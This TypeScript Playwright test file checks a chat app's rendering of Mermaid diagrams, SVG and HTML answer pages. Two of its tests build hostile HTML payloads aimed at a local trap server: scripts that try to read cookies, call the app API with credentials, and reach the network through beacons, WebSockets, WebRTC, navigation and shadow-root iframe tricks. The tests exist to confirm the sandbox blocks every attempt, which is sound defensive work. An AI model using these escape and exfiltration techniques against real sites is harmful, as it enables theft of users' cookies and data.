import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import { once } from 'node:events'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { type Page } from 'playwright-core'
import t, { type Test } from '#test'
import { listening } from '../support/listening.js'
import { violations } from '../support/axe.js'
import { still, visit, withBrowser } from '../support/browser.js'
import { startChat, type ChatService } from '../support/chat.js'

const fence = (language: string, code: string): string => `\`\`\`${language}\n${code}\n\`\`\``
const diagram = 'flowchart LR\n  accTitle: How a turn goes\n  A[Message] --> B{Allowed?}\n  B -->|yes| C[Tool]\n  B -->|no| D[Answer]\n  C --> D'
const page = (name: string, body = ''): string => `<!doctype html><title>${name}</title><style>body { font: 16px sans-serif; margin: 12px }</style><h1 id=name>${name}</h1><button onclick="document.getElementById('name').textContent = 'Clicked'">Press</button>${body}`

/** Creates a chat with these answers, each to its own message. */
async function chatWith (s: ChatService, ...texts: string[]): Promise<string> {
  const id = await s.newSession({ model: s.model(...texts.map((text) => [{ text }])), model_provider: 'openai' })
  for (const [at] of texts.entries()) {
    await s.send(id, `Message ${at + 1}`)
    while ((await s.session(id)).active_stream_id !== null) await new Promise((resolve) => setTimeout(resolve, 20))
  }
  return `${s.url}/session/${id}`
}

const look = async (shown: Page, name: string): Promise<void> => {
  const folder = process.env.SCREENSHOTS
  if (folder !== undefined) await shown.screenshot({ path: join(folder, `${name}.png`) })
}

const noErrors = (problems: string[]): string[] => problems.filter((problem) => !/content security policy/i.test(problem))

/** Starts a server that may not be reached, and counts how often it was. */
async function trap (t: Test): Promise<{ port: number, hits: string[] }> {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url} ${request.headers.cookie ?? ''}`)
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok')
  }).on('connection', () => hits.push('connection'))
  const port = await listening(t, server)
  const udp = createSocket('udp4').on('message', () => hits.push('udp'))
  udp.bind(port, '127.0.0.1')
  await once(udp, 'listening')
  t.teardown(() => udp.close())
  return { port, hits }
}

withBrowser(() => {
  for (const [device, size] of [['desk', { width: 1_280 }], ['phone', { width: 390, height: 844, isPhone: true }]] as const) {
    t.test(`${device}: a diagram and a picture are drawn in both themes, and stay readable as code`, async (t) => {
      const s = await startChat(t)
      const svg = '<svg viewBox="0 0 200 60" width="200" height="60"><title>A bar</title><rect width="120" height="60" fill="#0f6b5c"/><script>parent.x = 1</script></svg>'
      const url = await chatWith(s, `Here.\n\n${fence('mermaid', diagram)}\n\n${fence('svg', svg)}\n\n${fence('mermaid', 'flowchart LR\n  A[[[ --> ')}`)
      const { page: shown, problems } = await visit(t, url, size)
      const picture = shown.getByRole('img', { name: 'How a turn goes' })
      await picture.waitFor()
      await shown.getByText('This diagram cannot be drawn. Here is its code.').waitFor()
      await shown.getByRole('img', { name: 'A bar' }).waitFor()
      t.ok(await picture.evaluate((element) => 'naturalWidth' in element && Number(element.naturalWidth) > 100))
      for (const colorScheme of ['light', 'dark'] as const) {
        await shown.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
        await shown.waitForTimeout(500)
        await picture.waitFor()
        await picture.scrollIntoViewIfNeeded()
        t.same(await violations(shown), [], colorScheme)
        await look(shown, `diagram-${device}-${colorScheme}`)
      }
      const figure = shown.locator('figure', { has: picture })
      await figure.getByText('Code', { exact: true }).click()
      await shown.getByText('accTitle: How a turn goes').waitFor()
      t.equal(await picture.count(), 0)
      await shown.getByRole('figure', { name: 'Code: mermaid' }).first().getByText('Diagram', { exact: true }).click()
      await picture.waitFor()
      await figure.getByRole('button', { name: 'Open large' }).click()
      await shown.getByRole('dialog', { name: 'How a turn goes' }).getByRole('img', { name: 'How a turn goes' }).waitFor()
      await look(shown, `diagram-${device}-large`)
      await shown.keyboard.press('Escape')
      t.same(problems, [])
    })

    t.test(`${device}: a page of an answer is shown when the person says so, is alive, and an earlier version of it can be chosen`, async (t) => {
      const s = await startChat(t)
      const url = await chatWith(s, fence('html', page('Counter', '<p>first')), fence('html', page('Counter', '<p>second')))
      const { page: shown, problems } = await visit(t, url, size)
      const last = shown.locator('.artifact').last()
      await last.getByText('Version 2 of 2').waitFor()
      t.equal(await shown.locator('iframe').count(), 0, 'nothing runs by itself')
      await last.getByText('Page', { exact: true }).click()
      const inside = shown.frameLocator('.artifact iframe')
      await inside.getByText('second').waitFor()
      await inside.getByRole('button', { name: 'Press' }).click()
      await inside.getByRole('heading', { name: 'Clicked' }).waitFor()
      for (const colorScheme of ['light', 'dark'] as const) {
        await shown.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
        await still(shown)
        await look(shown, `page-${device}-${colorScheme}`)
      }
      await last.getByRole('button', { name: 'Version 2 of 2' }).click()
      await shown.getByRole('menuitemcheckbox', { name: 'Version 1 of 2' }).click()
      await inside.getByText('first').waitFor()
      const saved = shown.waitForEvent('download')
      await last.getByRole('button', { name: 'Download' }).click()
      t.equal((await saved).suggestedFilename(), 'Counter.html')
      t.same(problems, [])
    })
  }

  t.test('a hostile page reaches nothing: no cookie, no store, no request, no other page, no window', async (t) => {
    const s = await startChat(t)
    const { port, hits } = await trap(t)
    const there = `http://127.0.0.1:${port}`
    const attack = `<!doctype html><title>Attack</title><body><p id=said>begun</p>
      <link rel=stylesheet href=${there}/style><link rel=prefetch href=${there}/prefetch><link rel=preconnect href=${there}><img src=${there}/picture><iframe src=${there}/frame></iframe>
      <script>
        const found = []
        const tries = {
          cookie: () => document.cookie, local: () => localStorage.length, top: () => top.document.title, parent: () => parent.document.title,
          opened: () => open('${there}/popup').closed, opener: () => void navigator.sendBeacon('${there}/beacon', 'x'),
          topAway: () => { top.location = '${there}/top'; return '' }, worker: () => { new Worker('${there}/worker') ; return '' },
          socket: () => { new WebSocket('ws://127.0.0.1:${port}/socket'); return '' },
          call: () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); return '' },
          nested: () => { const f = document.createElement('iframe'); f.srcdoc = '<script>const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); fetch("${there}/nested")<\\/script>'; document.body.append(f); return '' }
        }
        for (const [name, attempt] of Object.entries(tries)) try { const got = attempt(); if (got) found.push(name + '=' + got) } catch {}
        const api = fetch('${s.url}/api/sessions', { credentials: 'include' }).then((r) => found.push('api=' + r.status), () => {})
        const out = fetch('${there}/fetch', { mode: 'no-cors' }).then(() => found.push('fetch'), () => {})
        const script = document.createElement('script'); script.src = '${s.url}/api/sessions'; script.onload = () => found.push('script'); document.body.append(script)
        Promise.all([api, out]).then(() => setTimeout(() => { said.textContent = 'found: ' + found.join(' ') }, 1500))
      </script>`
    const url = await chatWith(s, fence('html', attack))
    const { page: shown } = await visit(t, url)
    await shown.context().addCookies([{ name: 'secret', value: 'of-the-app', url: s.url }])
    await shown.locator('.artifact').getByText('Page', { exact: true }).click()
    const inside = shown.frameLocator('.artifact iframe')
    const said = inside.locator('#said')
    await inside.getByText(/^found:/).waitFor()
    t.equal(await said.textContent(), 'found: ')
    await shown.getByText(/network requests of this page were blocked/).waitFor()
    t.equal(shown.url(), url, 'the app is where it was')
    t.equal(shown.context().pages().length, 1)
    t.same(hits, [])

    // It can try to navigate by itself, and lands nowhere.
    for (const leaving of [
      `location.href = '${there}/away?secret'`, 'document.forms[0].submit()', 'document.links[0].click()', 'document.links[1].click()'
    ]) {
      const away = await chatWith(s, fence('html', page('Away', `<form action=${there}/form method=post><input name=a value=1></form>
        <a href=${there}/popup target=_blank ping=${there}/ping>x</a><a href=${there}/top target=_top>y</a><script>setTimeout(() => { ${leaving} }, 100)</script>`)))
      const { page: second } = await visit(t, away)
      await second.locator('.artifact').getByText('Page', { exact: true }).click()
      await second.waitForTimeout(1_000)
      t.equal(second.url(), away)
      t.equal(second.context().pages().length, 1)
    }
    t.same(hits, [])
  })

  t.test('a hostile page makes no frame that could call from browser to browser, and names nobody that it would go to', async (t) => {
    const s = await startChat(t)
    const { port, hits } = await trap(t)
    const call = `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] })`
    const framed = `<body><script>const c=${call};c.createDataChannel('x');c.createOffer().then((o)=>c.setLocalDescription(o))<\\/script>`
    const quoted = framed.replace('\\', '')
    const make = (root: string, before = ''): string => `<script>
      const host = document.createElement('div'); document.body.append(host); const frame = document.createElement('iframe')
      frame.srcdoc = "${framed}"; ${before}; ${root}.append(frame)</script>`
    const shadow = "host.attachShadow({ mode: 'closed' })"
    const attacks = {
      replaced: make('host', 'MutationObserver.prototype.observe = Element.prototype.remove = () => {}; document.querySelectorAll = () => []'),
      iterated: make('host', 'NodeList.prototype[Symbol.iterator] = function * () {}'),
      beside: make(shadow),
      'beside, replaced': make(shadow, 'MutationObserver.prototype.observe = () => {}'),
      original: make('Reflect.apply(known ?? host.attachShadow, host, [{ mode: "closed" }])', `let known; const { call } = Function.prototype
        Function.prototype.call = function (...given) { known = this; return Reflect.apply(this, given[0], given.slice(1)) }
        document.createElement('p').attachShadow({ mode: 'open' }); Function.prototype.call = call`),
      copied: make("host.attachShadow({ mode: 'closed', clonable: true })") + '<script>document.body.append(host.cloneNode(true))</script>',
      declared: `<div><template shadowrootmode=closed><iframe srcdoc="${quoted}"></iframe></template></div>`,
      written: `<script>document.write('<div><template shadowRootMode=closed><iframe srcdoc="' + ${JSON.stringify(framed)} + '"></iframe></template></div>')</script>`,
      set: `<script>document.body.setHTMLUnsafe('<div><template shadowrootmode=closed><iframe srcdoc="' + ${JSON.stringify(framed)} + '"></iframe></template></div>')</script>`,
      script: make(shadow, `frame.removeAttribute('srcdoc'); frame.src = "javascript:${call}.createDataChannel('x')"`),
      away: `<script>setTimeout(() => { location = 'http://127.0.0.1:${port}/away' }, 100)</script>`,
      refreshed: `<meta http-equiv=refresh content="0;url=http://127.0.0.1:${port}/away">`,
      saved: `<a download href="http://127.0.0.1:${port}/saved">x</a><script>document.links[0].click()</script>`
    }
    for (const [name, attack] of Object.entries(attacks)) {
      const { page: shown } = await visit(t, await chatWith(s, fence('html', `<!doctype html><title>${name}</title><body><p>Begun</p>${attack}`)))
      const filled = shown.waitForResponse((response) => response.url().includes('/static/frame'))
      await shown.locator('.artifact').getByText('Page', { exact: true }).click()
      await filled
      await shown.waitForTimeout(1_000)
      t.same(hits.splice(0), [], name)
    }
  })

  t.test('a page that never ends is said to be stuck and can be stopped', async (t) => {
    const s = await startChat(t)
    const url = await chatWith(s, fence('html', page('Loop', '<script>setTimeout(() => { for (;;); }, 500)</script>')))
    const { page: shown } = await visit(t, url)
    await shown.locator('.artifact').getByText('Page', { exact: true }).click()
    await shown.getByText('This page does not answer.').waitFor()
    await shown.getByRole('button', { name: 'Stop' }).click()
    await shown.getByRole('figure', { name: 'Code: html' }).waitFor()
    t.equal(await shown.locator('iframe').count(), 0)
  })

  t.test('an HTML file of the folder is read as text, and shown as a page when the person says so', async (t) => {
    const s = await startChat(t)
    writeFileSync(join(s.workspace, 'report.html'), page('Report'))
    const url = await chatWith(s, 'See `report.html`.')
    const { page: shown, problems } = await visit(t, url)
    await shown.getByRole('button', { name: 'report.html', exact: true }).click()
    const panel = shown.getByRole('region', { name: 'report.html' })
    await panel.getByText('Rendered').click()
    await shown.frameLocator('.preview iframe').getByRole('button', { name: 'Press' }).click()
    await shown.frameLocator('.preview iframe').getByRole('heading', { name: 'Clicked' }).waitFor()
    await look(shown, 'file-desk')
    t.same(noErrors(problems), [])
  })
})
